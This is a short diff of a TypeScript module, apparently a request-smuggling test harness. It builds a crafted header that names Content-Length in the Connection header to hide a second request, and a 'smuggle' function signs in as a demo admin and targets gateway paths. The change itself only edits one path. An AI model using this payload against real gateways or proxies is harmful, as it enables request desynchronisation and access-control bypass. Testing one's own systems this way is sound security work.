@@ -17,7 +17,7 @@ const tricks: Readonly<Record<string, (hidden: string) => string>> = {
   'a length named by Connection': (hidden) =>
     `Connection: keep-alive, Content-Length\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`,
 };
-const ways = ['/static/logo.svg', '/bff/file/x', '/api/ebp/message/search?top=1', '/bff/session?company=CHK'];
+const ways = ['/static/logo.svg', '/bff/file/x', '/api/ebp/message/search', '/bff/session?company=CHK'];
 
 async function smuggle({ gateways, upstreamUrl }: Target, method: string): Promise<string | undefined> {
   const session = await signIn(gateways[0], demoAccounts.harbourAdmin);
